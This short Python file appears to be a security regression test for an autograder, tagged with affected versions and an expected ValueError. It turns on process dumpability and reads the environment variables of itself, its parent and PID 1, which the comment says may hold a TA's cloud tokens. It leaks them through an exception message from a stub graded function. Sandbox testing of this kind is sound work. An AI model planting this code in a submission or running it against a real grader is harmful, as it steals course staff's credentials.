# affected: 2.2 2.3
# message: ValueError

# The grader's environment (a TA's cloud tokens, anything on Gradescope) must not be in the worker's memory.
import ctypes, os

ctypes.CDLL(None).prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE, so that /proc/self is readable


def _environ(path):
    try:
        return open(path, "rb").read().decode(errors="replace")
    except OSError as exc:
        return type(exc).__name__


def output_variance(widths):
    raise ValueError("|".join(_environ(p) for p in ("/proc/self/environ", f"/proc/{os.getppid()}/environ",
                                                    "/proc/1/environ")))
